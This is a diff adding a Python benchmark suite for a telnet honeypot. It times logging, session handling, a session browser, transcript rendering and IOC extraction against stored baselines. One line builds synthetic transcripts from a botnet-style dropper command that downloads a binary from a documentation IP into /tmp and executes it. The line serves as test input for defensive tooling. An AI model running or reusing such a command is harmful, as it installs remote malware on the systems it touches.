@@ -0,0 +1,348 @@
+#!/usr/bin/env python3
+# bench_suite.py - offline benchmarks of the hot paths, checked against baselines
+#
+#   python3 bench_suite.py                    # run everything, compare with bench_baseline.json
+#   python3 bench_suite.py --only dispatch    # benchmarks whose name contains "dispatch"
+#   python3 bench_suite.py --full             # also the 1M-session log
+#   python3 bench_suite.py --update-baseline  # record this machine's numbers as the baseline
+#   python3 bench_suite.py --only log_request --update-baseline --note "why it changed"
+#
+# Every benchmark reports ops/sec and p50/p99 latency per operation. Results
+# are written to bench_results.json. A benchmark whose ops/sec falls more
+# than --threshold below its baseline is a regression, and the exit status
+# is 1. No network is needed; log files are generated with simulate.py
+# into --data-dir and reused by later runs. A re-recorded baseline keeps a
+# dated --note per benchmark ("notes" in the baseline file) saying why.
+import argparse
+import asyncio
+import json
+import os
+import platform
+import shutil
+import sys
+import tempfile
+import time
+from datetime import datetime
+
+BASELINE_FILE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "bench_baseline.json")
+RESULTS_FILE = "bench_results.json"
+DATA_DIR = os.path.join(tempfile.gettempdir(), "honeypot-bench")
+THRESHOLD = 0.25
+SIZES = (10_000, 100_000)
+FULL_SIZES = SIZES + (1_000_000,)
+SEED = 17
+CHUNKS = 5
+
+def percentile(sorted_values, p):
+    return sorted_values[min(len(sorted_values) - 1, int(len(sorted_values) * p / 100))]
+
+def summarize(latencies, ops_per_sample=1, chunks=CHUNKS):
+    """ops/sec and per-op p50/p99 (microseconds) from per-sample seconds.
+
+    ops_per_sec is the best of `chunks` consecutive stretches (like timeit's
+    min of repeats), so a noisy neighbour during one stretch is not reported
+    as a regression; mean_ops_per_sec covers the whole run.
+    """
+    total = sum(latencies)
+    size = max(1, len(latencies) // chunks)
+    parts = [latencies[i:i + size] for i in range(0, len(latencies) - size + 1, size)]
+    best = max(len(p) / sum(p) for p in parts if sum(p) > 0) if total else None
+    per_op = sorted(t / ops_per_sample for t in latencies)
+    return {
+        "ops": len(latencies) * ops_per_sample,
+        "ops_per_sec": round(best * ops_per_sample, 1) if best else None,
+        "mean_ops_per_sec": round(len(latencies) * ops_per_sample / total, 1) if total else None,
+        "p50_us": round(percentile(per_op, 50) * 1e6, 2),
+        "p99_us": round(percentile(per_op, 99) * 1e6, 2),
+    }
+
+def timed(fn, n):
+    """Per-call latencies of n calls to fn()."""
+    clock = time.perf_counter
+    out = []
+    for _ in range(n):
+        t0 = clock()
+        fn()
+        out.append(clock() - t0)
+    return out
+
+# --- Benchmarks ----------------------------------------------------------
+# Each takes the parsed args and a scratch directory and returns a list of
+# (name, summary) pairs.
+
+def bench_log_request(args, scratch):
+    import logger
+    logger.LOG_FILE = os.path.join(scratch, "log_request.jsonl")
+    data = {"username": "admin", "password": "admin123"}
+    n = args.n(20_000)
+    sync = timed(lambda: logger.log_request("198.51.100.7", "bench", "/login", "POST", data), n)
+
+    async def queued():
+        await logger.start_writer(stats_interval=0, path=os.path.join(scratch, "log_request_async.jsonl"))
+        t0 = time.perf_counter()
+        lat = []
+        for _ in range(n):
+            t1 = time.perf_counter()
+            await logger.log_request_async("198.51.100.7", "bench", "/login", "POST", data)
+            lat.append(time.perf_counter() - t1)
+        await logger.stop_writer()
+        return lat, time.perf_counter() - t0
+
+    enqueue, total = asyncio.run(queued())
+    # ops/sec end to end (queued, serialized and on disk); latency is what the caller waits
+    written = dict(summarize(enqueue), ops_per_sec=round(n / total, 1), mean_ops_per_sec=round(n / total, 1))
+    logger.save_rollups()
+    return [("log_request sync", summarize(sync)), ("log_request async writer", written)]
+
+class FakeTransport:
+    def __init__(self):
+        self.closing = False
+
+    def abort(self):
+        self.closing = True
+
+    def is_closing(self):
+        return self.closing
+
+class FakeWriter:
+    """The StreamWriter surface handle_client uses, writing nowhere."""
+
+    def __init__(self, peer):
+        self.peer = peer
+        self.transport = FakeTransport()
+        self.sent = 0
+
+    def get_extra_info(self, name, default=None):
+        return self.peer if name == "peername" else default
+
+    def write(self, data):
+        self.sent += len(data)
+
+    async def drain(self):
+        pass
+
+    def close(self):
+        self.transport.closing = True
+
+    async def wait_closed(self):
+        pass
+
+def bench_dispatch(args, scratch):
+    import logger
+    import simulate
+    import telenet_server
+    import transcriptstore
+    transcriptstore.STORE_DIR = os.path.join(scratch, "transcripts")
+    commands_per_session = 20
+    cmds = [c.encode() + b"\r\n" for c in simulate.commands]
+    script = b"admin\r\nadmin\r\nroot\r\nroot\r\n" + b"".join(
+        cmds[i % len(cmds)] for i in range(commands_per_session)) + b"exit\r\n"
+    n = args.n(2_000)
+
+    async def run():
+        await logger.start_writer(stats_interval=0, path=os.path.join(scratch, "dispatch.jsonl"))
+        lat = []
+        for i in range(n):
+            reader = asyncio.StreamReader()
+            reader.feed_data(script)
+            reader.feed_eof()
+            # a new source address per session so admission control never refuses one
+            writer = FakeWriter((f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}", 40000))
+            t0 = time.perf_counter()
+            await telenet_server.handle_client(reader, writer)
+            lat.append(time.perf_counter() - t0)
+        await logger.stop_writer()
+        return lat
+
+    lat = asyncio.run(run())
+    logger.save_rollups()
+    return [("handle_client session", summarize(lat)),
+            (f"handle_client command ({commands_per_session}/session)", summarize(lat, commands_per_session + 5))]
+
+def data_file(args, size):
+    """A seeded bulk log of `size` sessions in --data-dir (generated once)."""
+    import simulate
+    path = os.path.join(args.data_dir, f"sessions-{size}-s{SEED}.jsonl")
+    if not os.path.exists(path):
+        print(f"  generating {size:,} sessions -> {path}")
+        ns = argparse.Namespace(sessions=size, seed=SEED, start="2025-01-01T00:00:00", span_days=7.0,
+                                zipf=1.3, ip_space=200_000, burst_frac=0.6, bursts=3, burst_width=120.0,
+                                batch_size=20_000, files=1, processes=1, out=args.data_dir,
+                                name=f"sessions-{size}-s{SEED}")
+        simulate.bulk_generate(ns)
+        print()
+    return path
+
+def bench_browser(args, scratch):
+    import sessionbrowser
+    out = []
+    tail_lines = 1_000
+    for size in args.sizes:
+        path = data_file(args, size)
+        rounds = CHUNKS if size <= 10_000 else 3 if size <= 100_000 else 1
+        # what the dashboard does on a cold load: one file's row table
+        cold = timed(lambda: sessionbrowser.SessionBrowser(scratch).tables([path]), rounds)
+        # a rerun after the live log grew: only the appended lines are parsed
+        with open(path, "rb") as f:
+            head = [next(f) for _ in range(tail_lines)]
+        live = os.path.join(scratch, f"live-{size}.jsonl")
+        shutil.copyfile(path, live)
+        browser = sessionbrowser.SessionBrowser(scratch)
+        browser.tables([live])
+        tail = []
+        for _ in range(rounds):
+            with open(live, "ab") as f:
+                f.writelines(head)
+            t0 = time.perf_counter()
+            browser.tables([live])
+            tail.append(time.perf_counter() - t0)
+        # a filtered, sorted first page over the cached table
+        tables = browser.tables([live])
+        query = timed(lambda: browser.query(tables, command="wget", sort="src_ip").page(0), args.n(20))
+        out += [(f"browser cold load {size}", summarize(cold, size)),
+                (f"browser tail read {size}+{tail_lines}", summarize(tail, tail_lines)),
+                (f"browser query {size}", summarize(query))]
+    return out
+
+def big_sessions(events=2000):
+    import transcript
+    text = "cd /tmp; wget http://198.51.100.7/bins/mips -O- > .m; chmod +x .m; ./.m"
+    evs = [(i * 150, "in" if i % 2 == 0 else "out", text) for i in range(events)]
+    v2 = {"time": "2025-01-01T00:10:00Z", "data": {"transcript": transcript.make_record("2025-01-01T00:00:00Z", evs)}}
+    old = {"time": "2025-01-01T00:10:00Z", "data": {
+        "session_start": "2025-01-01T00:00:00Z",
+        "transcript": [{"ts": transcript.timestamp(v2, o), "dir": d, "text": t} for o, d, t in evs]}}
+    ev = {"time": "2025-01-01T00:10:00Z", "events": [
+        {"time": f"2025-01-01T00:00:{i % 60:02d}Z", "dir": "recv" if d == "in" else "send", "data": t}
+        for i, (o, d, t) in enumerate(evs)]}
+    return {"v2": v2, "v1 list": old, "events": ev}
+
+def bench_transcript(args, scratch):
+    import transcript
+    out = []
+    n = args.n(200)
+    for label, session in big_sessions().items():
+        out.append((f"to_text 2000-event {label}", summarize(timed(lambda: transcript.to_text(session), n))))
+    return out
+
+def bench_ioc(args, scratch):
+    import bench_ioc
+    import ioc
+    extractor = ioc.Extractor()
+    lines = bench_ioc.LINES
+    n = args.n(2_000)
+    # per line; extract() bypasses the memo that repeated lines hit in production
+    fresh = timed(lambda: [extractor.extract(line) for line in lines], n)
+    return [("ioc extract (per line)", summarize(fresh, len(lines)))]
+
+def bench_generate(args, scratch):
+    import simulate
+    return [("generate_virtual_entry", summarize(timed(simulate.generate_virtual_entry, args.n(20_000))))]
+
+BENCHMARKS = {
+    "log_request": bench_log_request,
+    "dispatch": bench_dispatch,
+    "browser": bench_browser,
+    "transcript": bench_transcript,
+    "ioc": bench_ioc,
+    "generate": bench_generate,
+}
+
+# --- Baselines -----------------------------------------------------------
+def compare(results, baseline, threshold):
+    """Annotate results with their baseline ratio; returns regressed names."""
+    regressed = []
+    for name, r in results.items():
+        base = baseline.get(name)
+        if not base or not base.get("ops_per_sec") or not r.get("ops_per_sec"):
+            r["status"] = "new"
+            continue
+        ratio = r["ops_per_sec"] / base["ops_per_sec"]
+        r["baseline_ops_per_sec"] = base["ops_per_sec"]
+        r["ratio"] = round(ratio, 3)
+        if ratio < 1 - threshold:
+            r["status"] = "regression"
+            regressed.append(name)
+        else:
+            r["status"] = "ok"
+    return regressed
+
+def main():
+    ap = argparse.ArgumentParser(description="Offline benchmarks of the honeypot hot paths.")
+    ap.add_argument("--only", action="append", help="Run benchmarks whose name contains this (repeatable)")
+    ap.add_argument("--full", action="store_true", help="Include the 1M-session log")
+    ap.add_argument("--quick", action="store_true", help="Fewer iterations (smoke run, noisy numbers)")
+    ap.add_argument("--threshold", type=float, default=THRESHOLD,
+                    help=f"Allowed ops/sec drop vs baseline before failing (default {THRESHOLD})")
+    ap.add_argument("--baseline", default=BASELINE_FILE)
+    ap.add_argument("--update-baseline", action="store_true", help="Write these results as the new baseline")
+    ap.add_argument("--note", help="With --update-baseline: why these baselines changed (kept per benchmark)")
+    ap.add_argument("--out", default=RESULTS_FILE, help=f"Machine-readable results (default {RESULTS_FILE})")
+    ap.add_argument("--data-dir", default=DATA_DIR, help="Where generated log files are kept")
+    args = ap.parse_args()
+    args.sizes = FULL_SIZES if args.full else SIZES
+    args.n = (lambda n: max(10, n // 10)) if args.quick else (lambda n: n)
+    os.makedirs(args.data_dir, exist_ok=True)
+
+    try:
+        with open(args.baseline, "r", encoding="utf-8") as f:
+            recorded = json.load(f)
+    except FileNotFoundError:
+        recorded = {}
+    baseline, notes = recorded.get("results", {}), recorded.get("notes", {})
+
+    results = {}
+    scratch = tempfile.mkdtemp(prefix="honeypot-bench-")
+    try:
+        for key, fn in BENCHMARKS.items():
+            if args.only and not any(o in key for o in args.only):
+                continue
+            print(f"[{key}]")
+            for name, summary in fn(args, scratch):
+                results[name] = summary
+                print(f"  {name:42s} {summary['ops_per_sec']:>12,.1f} ops/s   "
+                      f"p50 {summary['p50_us']:>10,.2f}us   p99 {summary['p99_us']:>10,.2f}us")
+    finally:
+        shutil.rmtree(scratch, ignore_errors=True)
+
+    regressed = compare(results, baseline, args.threshold)
+    report = {
+        "created": datetime.utcnow().isoformat() + "Z",
+        "python": platform.python_version(),
+        "machine": f"{platform.system()} {platform.machine()} ({os.cpu_count()} cpu)",
+        "threshold": args.threshold,
+        "quick": args.quick,
+        "results": results,
+        "regressions": regressed,
+    }
+    with open(args.out, "w", encoding="utf-8") as f:
+        json.dump(report, f, indent=2)
+    print(f"\nResults written to {args.out}")
+    for name in results:
+        r = results[name]
+        if "ratio" in r:
+            flag = "  REGRESSION" if r["status"] == "regression" else ""
+            print(f"  {name:42s} {r['ratio']:6.2f}x baseline{flag}")
+            if flag and name in notes:
+                print(f"  {'':42s} (baseline note: {notes[name]})")
+
+    if args.update_baseline:
+        if args.quick:
+            raise SystemExit("--update-baseline needs a full (non --quick) run")
+        if args.note is None and any(k in baseline for k in results):
+            raise SystemExit("--update-baseline over recorded baselines needs a --note saying why")
+        merged = dict(baseline)
+        merged.update({k: {m: v[m] for m in ("ops_per_sec", "p50_us", "p99_us")} for k, v in results.items()})
+        if args.note:
+            notes = dict(notes, **{k: f"{report['created'][:10]}: {args.note}" for k in results})
+        with open(args.baseline, "w", encoding="utf-8") as f:
+            json.dump({"machine": report["machine"], "python": report["python"],
+                       "created": report["created"], "results": merged, "notes": notes}, f, indent=2)
+            f.write("\n")
+        print(f"Baseline updated: {args.baseline}")
+    elif regressed:
+        print(f"\n{len(regressed)} regression(s) beyond {args.threshold:.0%}: {', '.join(regressed)}")
+        sys.exit(1)
+
+if __name__ == "__main__":
+    main()